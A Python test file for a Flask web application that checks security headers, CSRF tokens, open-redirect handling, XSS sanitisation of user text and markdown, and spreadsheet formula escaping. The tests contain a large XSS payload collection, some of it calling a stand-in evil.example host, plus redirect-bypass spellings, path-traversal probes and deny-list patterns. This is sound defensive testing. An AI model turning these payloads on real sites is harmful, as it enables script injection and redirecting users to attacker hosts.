"""What every answer carries, and what no page lets through: headers, tokens, redirects, scripts, formulas."""

import html
import io
import re
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote

import openpyxl
import pytest
from argon2 import extract_parameters
from argon2.profiles import RFC_9106_LOW_MEMORY
from flask import Flask

from expertise.access.gate import need
from expertise.base.database import begin, session
from expertise.base.markdown import to_html
from expertise.base.tables import write_rows
from expertise.import_export import KINDS
from tests import make
from tests.conftest import Browser, Cast, settings_for
from tests.house.test_routes import address_of

Open = Callable[[str], Browser]
ROOT = Path(__file__).parent.parent.parent
HEADERS = {
    "Content-Security-Policy": (
        "default-src 'none'; object-src 'none'; style-src 'self'; script-src 'self'; img-src 'self'; "
        "connect-src 'self'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'"
    ),
    "X-Content-Type-Options": "nosniff",
    "Referrer-Policy": "same-origin",
    "X-Frame-Options": "DENY",
    "Cross-Origin-Opener-Policy": "same-origin",
    "Cross-Origin-Resource-Policy": "same-origin",
    "Permissions-Policy": "camera=(), geolocation=(), microphone=()",
}


def test_every_route_and_every_error_carries_the_same_headers(app: Flask, browser_of: Open) -> None:
    statuses = set()
    # All others at all that there is: tests/access/test_matrix.py asks it of each of its answers.
    for who in ("nobody", "leaver"):
        client = browser_of(who).client
        asked = [(address_of(rule), method) for rule in app.url_map.iter_rules() for method in rule.methods or ()]
        asked += [("/no-such-page", "GET"), ("/", "DELETE"), ("/static/none.css", "GET"), ("/sign-in", "OPTIONS")]
        asked += [("/", "TRACE"), ("/static/", "GET"), ("/static/../config.py", "GET"), ("/.git/config", "GET")]
        asked += [("/static/css/app.css", "GET"), ("/search.json?q=x", "GET"), ("/sign-in", "POST")]
        for url, method in asked:
            answer = client.open(url, method=method, buffered=True)
            found = {name: answer.headers.get_all(name) for name in HEADERS}
            assert found == {name: [value] for name, value in HEADERS.items()}, (who, method, url)
            keep = "public, max-age=31536000, immutable" if url == "/static/css/app.css" else "no-store, private"
            assert answer.headers["Cache-Control"] == keep, (who, method, url, answer.status_code)
            statuses.add(answer.status_code)
            if answer.data and answer.mimetype.startswith("text/"):
                assert answer.content_type.endswith("; charset=utf-8"), (who, method, url)
            assert method != "TRACE" or answer.status_code == 405
            assert not url.startswith(("/static/.", "/static/?", "/.git")) or answer.status_code == 404
    assert statuses >= {200, 303, 400, 404, 405}


def test_a_failure_of_ours_carries_them_too(app: Flask, browser_of: Open) -> None:
    client = browser_of("leaver").client

    @need("public")
    def failing() -> str:
        raise RuntimeError("as a mistake of ours would")

    app.view_functions["health.healthz"] = failing
    answer = client.get("/healthz")
    assert answer.status_code == 500
    assert {name: answer.headers[name] for name in HEADERS} == HEADERS
    # And tell nothing of it.
    assert "as a mistake" not in answer.text
    assert "RuntimeError" not in answer.text


def test_in_production_browsers_are_told_to_stay_with_https(tmp_path: Path) -> None:
    from expertise import create_app

    settings = settings_for(
        tmp_path, EXPERTISE_ENV="production", EXPERTISE_SECRET_KEY="k" * 40, EXPERTISE_HOSTS="expertise.example"
    )
    made = create_app(settings)
    answer = made.test_client().get("/static/css/app.css", base_url="https://expertise.example", buffered=True)
    assert answer.headers["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains"
    assert made.config["SESSION_COOKIE_SECURE"] is True
    assert made.config["SESSION_COOKIE_NAME"].startswith("__Host-")
    # Tests hash more cheaply (tests/conftest.py): an installation never does.
    assert extract_parameters(made.config["PASSWORD_HASHER"].hash("x")) == RFC_9106_LOW_MEMORY
    with made.app_context():
        from expertise.base.database import engine

        engine().dispose()
        made.extensions["search"].close()


def test_no_template_has_a_script_or_a_style_in_it() -> None:
    forbidden = re.compile(
        r"<style|\sstyle\s*=|<script(?![^>]*\ssrc=)|\son[a-z]+\s*=\s*[\"'{]|javascript:|srcdoc", re.I
    )
    for path in sorted((ROOT / "templates").rglob("*.html")):
        found = forbidden.search(path.read_text())
        assert found is None, f"{path}: {found and found[0]}"


def test_no_script_makes_html_of_text_runs_text_or_keeps_anything_in_the_browser() -> None:
    forbidden = re.compile(
        # But for what our own server answered, which is a part of a page of ours.
        r"innerHTML(?! = await answer\.text\(\);)|outerHTML|insertAdjacentHTML|document\.write"
        r"|\beval\(|new Function|postMessage|__proto__|(local|session)Storage|indexedDB|document\.cookie"
    )
    scripts = sorted((ROOT / "expertise" / "static").rglob("*.js"))
    assert scripts
    for path in scripts:
        found = forbidden.search(path.read_text())
        assert found is None, f"{path}: {found and found[0]}"


def test_every_route_that_changes_something_refuses_a_post_without_its_token(app: Flask, browser_of: Open) -> None:
    clients = [browser_of(who).client for who in ("leaver", "hr", "admin", "privacy")]
    walked = 0
    for rule in app.url_map.iter_rules():
        for method in sorted((rule.methods or set()) & {"POST", "PUT", "PATCH", "DELETE"}):
            for data in ({}, {"csrf_token": "x"}, {"csrf_token": "IjAwIg.aaaa.bbbb"}):
                statuses = {one.open(address_of(rule), method=method, data=data).status_code for one in clients}
                # A route for programs counts no cookie at all: whoever sends one is nobody.
                programs = rule.endpoint.startswith("api.")
                assert (401 if programs else 400) in statuses, rule
                assert statuses <= ({401} if programs else {400, 404}), rule
            walked += 1
    assert walked > 40


ELSEWHERE = """
https://evil.example|http://evil.example|//evil.example|///evil.example|////evil.example|/\\evil.example
\\\\evil.example|\\/evil.example|/\\/evil.example|https:evil.example|https:/evil.example|https:///evil.example
http:evil.example|HTTPS://evil.example|hTTp://evil.example| https://evil.example|\thttps://evil.example
\nhttps://evil.example|/\t/evil.example|/\n/evil.example|/\r/evil.example|\t//evil.example| //evil.example
//evil.example/%2f..|//evil.example:80|//user@evil.example|https://127.0.0.1@evil.example|//evil.example?x=/
//evil.example#/|javascript:alert(1)|JaVaScRiPt:alert(1)|java\tscript:alert(1)|data:text/html,x|vbscript:x
mailto:a@b.c|ftp://evil.example|evil.example|.evil.example|@evil.example|//\\evil.example|/\\\\evil.example
//\u3002evil.example|https://evil\u3002example|\x00//evil.example|/.//evil.example|/..//evil.example|//[::1]|//[bad
""".replace("\n", "|", 1)


def spellings() -> list[str]:
    """Addresses elsewhere, as they are tried."""
    return [one for one in re.split(r"\n(?=[^|]*\|)|\|", ELSEWHERE) if one.strip()]


def test_sign_in_sends_nobody_elsewhere(browser_of: Open) -> None:
    leaver = browser_of("leaver")
    assert len(spellings()) >= 40
    for target in spellings():
        answer = leaver.client.get(f"/sign-in?next={quote(target)}")
        assert answer.status_code == 303, target
        # As a browser reads it: blanks and line ends do not count, a backslash is a slash.
        read = re.sub(r"[\t\r\n]", "", answer.location).strip().replace("\\", "/")
        assert read.startswith("/"), (target, read)
        assert not read.startswith("//"), (target, read)


CODE = ["alert(1)", "fetch('//evil.example')", "alert`1`", "import('//evil.example')"]
SHAPES = """
<script>{}</script>
<ScRiPt>{}</sCrIpT>
<script src=//evil.example></script>
<script/x>{}</script>
"><script>{}</script>
'><script>{}</script>
</textarea><script>{}</script>
</title><script>{}</script>
<!--><script>{}</script>-->
<img src=x onerror={}>
<img src=x onerror="{}">
<img/src/onerror={}>
<IMG SRC=x ONERROR={}>
"><img src=x onerror={}>
" onmouseover="{}
' onfocus='{}' autofocus='
" autofocus onfocus={} x="
<svg onload={}>
<svg/onload={}>
<svg><script>{}</script></svg>
<svg><a xlink:href="javascript:{}">x</a></svg>
<svg><animate onbegin={} attributeName=x>
<math><mtext></form><form><mglyph><style></math><img src onerror={}>
<body onload={}>
<iframe src="javascript:{}"></iframe>
<iframe srcdoc="<script>{}</script>"></iframe>
<object data="javascript:{}"></object>
<embed src="javascript:{}">
<form action="javascript:{}"><button>x</button></form>
<button formaction="javascript:{}">x</button>
<input autofocus onfocus={}>
<details open ontoggle={}>
<video><source onerror={}></video>
<audio src=x onerror={}>
<marquee onstart={}>
<style>@import "javascript:{}";</style>
<p style="background:url(javascript:{})">x</p>
<link rel=stylesheet href="javascript:{}">
<base href="javascript:{}//">
<meta http-equiv=refresh content="0;url=javascript:{}">
<a href="javascript:{}">x</a>
<a href="JaVaScRiPt:{}">x</a>
<a href="java&#10;script:{}">x</a>
<a href="&#106;avascript:{}">x</a>
[x](javascript:{})
[x](JAVASCRIPT:{})
[x](java&#115;cript:{})
[x](<javascript:{}>)
[x](&#x6A;avascript:{})
[x](vbscript:{})
[x](data:text/html;base64,{})
![x](javascript:{})
![x](x "onerror={}")
<javascript:{}>
[x]: javascript:{}
{{{{constructor.constructor('{}')()}}}}
""".strip().splitlines()
PAYLOADS = [shape.format(code) for shape in SHAPES for code in CODE]
OUR_SCRIPT = re.compile(r"/static/js/[a-z]+\.js\?v=[0-9a-f]+")


class Found(HTMLParser):
    """Gathers whatever would run."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.running: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at one tag."""
        given = {name: value or "" for name, value in attrs}
        if tag == "script" and not OUR_SCRIPT.fullmatch(given.get("src", "")):
            self.running.append(tag)
        if tag in ("iframe", "object", "embed", "style", "base", "math", "marquee", "animate", "video", "audio"):
            self.running.append(tag)
        if tag == "meta" and "http-equiv" in given:
            self.running.append(tag)
        for name, value in given.items():
            address = re.sub(r"[\x00-\x20]", "", value).lower()
            runs = name in ("href", "src", "action", "formaction", "data", "xlink:href") and re.match(
                r"(javascript|vbscript|data):", address
            )
            if name.startswith("on") or name in ("style", "srcdoc") or runs:
                self.running.append(f"{tag} {name}={value}")


def running(page: str) -> list[str]:
    """What of a page would run."""
    found = Found()
    found.feed(page)
    return found.running


def test_the_looking_finds_what_runs() -> None:
    for payload in ("<script>x</script>", "<img src=x onerror=x>", '<a href="java&#10;script:x">', "<p style=x>"):
        assert running(payload), payload


def test_nothing_runs_out_of_markdown() -> None:
    assert len(PAYLOADS) >= 200
    for payload in PAYLOADS:
        for text in (payload, f"Text {payload} text", f"> - {payload}", f"| a |\n|---|\n| {payload} |", f"# {payload}"):
            assert running(str(to_html(text))) == [], text


def test_nothing_runs_on_any_page_that_shows_what_people_wrote(app: Flask, cast: Cast, browser_of: Open) -> None:
    whole = "\n\n".join(PAYLOADS)
    short = [payload for payload in PAYLOADS[::4] if len(payload) < 90]
    with app.app_context(), app.test_request_context():
        begin("write")
        seat = session().get_one(make.Position, cast.positions["disarmament"])
        leaver = session().get_one(make.Person, cast.people["leaver"])
        texts = {"summary": whole, "objectives": whole, "state_of_play": whole, "line_to_take": whole}
        lines = {"next_step": short[1], "next_step_by": short[2], "line_cleared_by": short[3]}
        dossier = make.dossier(short[0], kept_by=seat, language="en", **texts, **lines)
        entries = [
            make.entry(
                dossier, one, by=leaver, kind="commitment", to_whom=one, body=whole, tags=[one], language="en"
            ).id
            for one in short
        ]
        contacts = [
            make.contact(one, kept_by=seat, role=one, notes=whole, sensitivities=whole, email=one, phone=one[:50]).id
            for one in short[:12]
        ]
        for number, one in enumerate(short):
            make.duty(seat, one, when_where=one, purpose=one)
            make.person(one, phone=one[:50], email=f"{number}@expertise.example")
        at = make.post("XSS", short[4], short[5], city=short[6])
        titled = make.position(at, short[7], short[8], portfolio=whole)
        theme = make.domain("xss", short[9], short[10], description=whole)
        session().commit()
        pages = [
            *("/", "/dossiers?whose=all", "/contacts", "/people", "/posts", "/posts/XSS", "/domains", "/domains/xss"),
            *(f"/dossiers/{dossier.id}{more}" for more in ("", "?page=2", "/edit", "/keeping", "/revisions")),
            *(f"/dossiers/{dossier.id}/entries/{entry}{more}" for entry in entries[:6] for more in ("", "/edit")),
            *(f"/contacts/{contact}{more}" for contact in contacts[:4] for more in ("", "/edit", "/keep")),
            *(f"/positions/{one}" for one in (seat.id, titled.id)),
            *(f"/postings/{cast.postings['leaver']}/handover", f"/people/{cast.people['leaver']}", "/search?q=alert"),
        ]
        assert theme.code == "xss"
    browser = browser_of("leaver")
    for url in pages:
        page = browser.get(url)
        assert running(page) == [], url
        assert len(page) > 500
    token = browser.token()
    # One of each shape: what differs between the others is only the code in it.
    for payload in PAYLOADS[:: len(CODE)]:
        for url in (f"/search?q={quote(payload)}", f"/no/{quote(payload, safe='')}"):
            assert running(browser.client.get(url).text) == [], url
        sent = {"title": payload, "next_step_on": payload, "csrf_token": token}
        refused = browser.client.post("/dossiers/new", data=sent).text
        assert running(refused) == [], payload
        # What was typed is still in its field, as text.
        assert payload in html.unescape(refused), payload


SIGNS = "=+-@\t\r\n"


@pytest.mark.parametrize("name", sorted(KINDS))
def test_no_export_has_a_cell_that_a_spreadsheet_carries_out(name: str) -> None:
    kind = KINDS[name]
    rows = [{field.name: f"{sign}1+1" for field in kind.fields} for sign in SIGNS]
    for form in ("csv", "xlsx"):
        out = io.BytesIO()
        assert write_rows(kind.fields, rows, form, out) == len(SIGNS)
        if form == "xlsx":
            sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
            assert sheet is not None
            cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
            assert {cell.data_type for cell in cells} == {"s"}
            assert all(str(cell.value).startswith("'") for cell in cells)
        else:
            text = out.getvalue().decode("utf-8-sig")
            assert not re.search(r'(^|,)"?[=+\-@\t\r]', text.replace("\r\n", "\n").split("\n", 1)[1], re.M)
